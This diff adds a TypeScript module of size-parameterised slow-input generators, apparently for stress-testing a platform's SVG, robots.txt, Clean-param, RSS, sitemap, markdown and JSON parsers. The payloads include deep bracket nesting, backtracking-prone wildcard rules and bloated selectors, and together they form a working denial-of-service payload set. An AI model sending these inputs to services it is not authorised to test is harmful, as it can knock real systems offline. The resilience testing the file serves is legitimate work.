@@ -1,0 +1,39 @@
+/**
+ * Inputs made to be slow, by the name of their row. Each takes a size in bytes and returns an input of about that size.
+ * A program can send them to a running platform.
+ */
+const repeated = (part: string, size: number): string => part.repeat(Math.max(1, Math.floor(size / part.length)));
+const svgOf = (content: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`;
+
+export const attacks = {
+  svg_classes: (size: number) =>
+    svgOf(
+      `<style>${repeated(`${'.b'.repeat(100)}{fill:url(#g)}`, size / 2)}</style><g id="g"/>` +
+        repeated(`<g class="${'a '.repeat(148)}b"/>`, size / 2),
+    ),
+  svg_white_space: (size: number) => svgOf(`<style>a,${' '.repeat(size)}!{fill:red}</style>`),
+  svg_elements: (size: number) => svgOf(repeated('<path d="M0 0h10v10z" fill="red"/>', Math.min(size, 640_000))),
+  svg_document_types: (size: number) => repeated('<!DOCTYPE[>', size),
+  robots_rules: (size: number) => `User-agent: *\n${repeated(`Disallow: /${'*aaaaaaaaab'.repeat(30)}\n`, size)}`,
+  robots_names: (size: number) =>
+    `${Array.from({ length: size / 32 }, (_, at) => `User-agent: a${at}`).join('\n')}\n${repeated('Allow: /a\n', size / 2)}`,
+  clean_param: (size: number) => repeated(`Clean-param: zz /*${'a*'.repeat(20)}b\n`, size),
+  requisites: (size: number) =>
+    Array.from({ length: Math.floor(size / 15) }, (_, at) => `ИНН ${1_000_000_000 + at}`).join(' '),
+  banner_style: (size: number) => {
+    const gap = ' '.repeat(size / 3);
+    return `<p style="color:rgb(1${gap}1${gap}1${gap}x">Sale</p>`;
+  },
+  banner_elements: (size: number) => repeated('<p onclick="a()" style="color:red">Sale</p>', size),
+  markdown_footnotes: (size: number) => repeated('^[a]', size),
+  config_value: (size: number) => repeated('a+', size),
+  config_tokens: (size: number) => repeated('eyJaaaaaaaa-', size),
+  feed_entries: (size: number) =>
+    `<rss><channel>${repeated(`<item><title>${'a'.repeat(10_000)}</title></item>`, size)}`,
+  keyword_file: (size: number) => `query,clicks\n${repeated('word,1\n', size)}`,
+  sitemap: (size: number) =>
+    `<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${repeated('<url><loc>https://a.test/a</loc></url>', size)}</urlset>`,
+  json_depth: (size: number) => '['.repeat(size),
+} satisfies Record<string, (size: number) => string>;
+
+export type AttackName = keyof typeof attacks;
